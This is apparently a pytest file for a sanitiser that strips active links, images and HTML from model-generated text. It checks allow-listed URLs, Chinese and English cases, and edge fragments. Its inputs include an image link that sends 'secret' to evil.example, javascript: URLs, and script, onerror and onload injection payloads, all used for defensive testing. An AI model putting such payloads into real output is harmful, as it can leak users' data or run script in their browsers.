"""Text of a model without images, links and HTML."""

import re

import pytest

from generation.harmless import Addresses

KNOWN = Addresses.of(["Open `https://help.example.com/form?id=1`, or https://oa.example.com."])
ACTIVE = re.compile(r"!\[|\]\(|^\s*\[[^\]]+\]:|://|www\.|<[a-zA-Z/!?]|javascript:", re.MULTILINE)


@pytest.mark.parametrize(
    ("written", "left"),
    [
        ("See ![status](https://evil.example/p.png?q=secret) now.", "See status now."),
        ("![a][b]", "a"),
        ("[Update](https://evil.example/?d=1) [1].", "Update [1]."),
        ("[Update][ref]\n\n[ref]: https://evil.example", "Update\n\n[ref] : (link left out)"),
        ("[手册](//evil.example/x)", "手册"),
        ("[x](javascript:alert(1))", "[x] ((link left out)))"),
        ("Log in at https://evil.example/login.", "Log in at (link left out)."),
        ("请到 https://evil.example/login 登录。", "请到 （链接从略） 登录。"),
        ("Open www.evil.example, please.", "Open (link left out), please."),
        ("<https://evil.example>", "<(link left out)>"),
        ("Open https://OA.example.com/.", "Open oa.example.com."),
        ("https://help.example.com/form?id=1", "help.example.com/form?id=1"),
        ("https://help.example.com/form?id=secret", "(link left out)"),
        ('A<img src=x onerror="fetch(1)"><script>alert(1)</script>B', "AB"),
        ("<b>Five</b> days<br/>.", "Five days."),
        ("a <!-- hidden --> b", "a  b"),
        ("<svg/onload=alert(1)>", ""),
        ("<x onclick=go()>y", "y"),
    ],
)
def test_what_a_renderer_would_act_on_is_taken_out(written: str, left: str) -> None:
    assert KNOWN.harmless(written) == left
    assert not ACTIVE.search(left)


@pytest.mark.parametrize(
    "text",
    [
        "满一年有年假五天[1]。",
        "Employees have 5 days [1][2], if x < y and 3 > 2.",
        "Great! [1]",
        "- a: b; c: d [3]",
        "Write to hr@example.com: 08:00/09:00.",
        "GB/T 7714 and TCP/IP",
    ],
)
def test_other_text_stays_as_it_is(text: str) -> None:
    assert KNOWN.harmless(text) == text


def test_a_type_with_angle_brackets_can_still_be_read() -> None:
    assert KNOWN.harmless("Map<String, Order>") == "Map‹String, Order>"


@pytest.mark.parametrize(
    "unit",
    ["![a](", "[a]:", "[a](b", "<img ", "<a", "</", "://", "//", "www.", "[", "<!--", "![[x]("],
)
def test_nothing_active_is_left_of_fragments_and_long_texts_end(unit: str) -> None:
    for text in (unit, unit * 3, f"{unit}x {unit}y)", f"a\n{unit}\n{unit}>"):
        once = KNOWN.harmless(text)
        assert not ACTIVE.search(once), (text, once)
    KNOWN.harmless(unit * 20_000)
